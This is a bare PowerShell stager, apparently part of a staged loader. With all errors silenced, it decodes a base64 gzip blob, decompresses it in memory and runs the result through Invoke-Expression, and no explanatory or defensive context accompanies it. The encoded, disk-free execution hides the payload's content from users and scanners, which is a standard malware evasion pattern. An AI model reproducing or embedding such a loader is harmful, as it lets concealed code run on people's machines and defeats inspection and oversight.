# compressed stage, unpacked in memory
$ErrorActionPreference = 'SilentlyContinue'
$blob = 'H4sIAAAAAAAEAAsuTcrMS1dIzs8rSc0rUShKTc7PS0nNS61UyMsvSS1WBAD5GZ/4HAAAAA=='
$data = [System.Convert]::FromBase64String($blob)
$ms = New-Object System.IO.MemoryStream(, $data)
$gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
$sr = New-Object System.IO.StreamReader($gz)
$script = $sr.ReadToEnd()
$sr.Close()
IEX $script
